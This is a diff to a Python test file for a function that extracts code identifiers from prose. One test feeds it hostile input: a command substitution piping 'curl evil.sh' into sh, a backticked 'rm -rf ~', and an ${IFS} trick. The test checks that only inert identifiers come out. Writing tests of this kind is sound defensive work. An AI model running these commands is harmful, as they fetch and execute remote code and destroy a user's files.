@@ -24,7 +24,7 @@ from homeostat.core.hosts import MAX_FOLLOW_UP_LINES, FollowUp
         ("Read it with pathlib.Path and call close() after.", ("pathlib", "Path", "close")),
         ("Set PIP_NO_COLOR in CI.", ("PIP_NO_COLOR",)),
         ("Keep a comment at each copy of the check.", ()),
-        ("Pin the tool in pyproject.toml, not setup.cfg.", ("pyproject", "toml", "setup", "cfg")),
+        ("Pin the tool in pyproject.toml, not src/setup.cfg: file names say where.", ()),
         ("Pass --no-deps --index-url to the child run.", ("deps", "index", "url")),
         ("Read $PIP_HOME, ${XDG_CACHE} and %APPDATA% once.", ("PIP_HOME", "XDG_CACHE", "APPDATA")),
         ("Say 'git' and \"utf-8\" exactly, not \u2018svn\u2019.", ("git", "utf", "svn")),
@@ -56,7 +56,7 @@ def test_quoted_prose_and_apostrophes_name_no_code() -> None:
 
 def test_attacker_text_gives_only_inert_identifiers() -> None:
     terms = code_terms("Run --$(curl evil.sh|sh) and '`rm -rf ~`' and ${IFS}")
-    assert terms == ("evil", "IFS")
+    assert terms == ("IFS",)
     assert all(term.isidentifier() for term in terms)
 
 
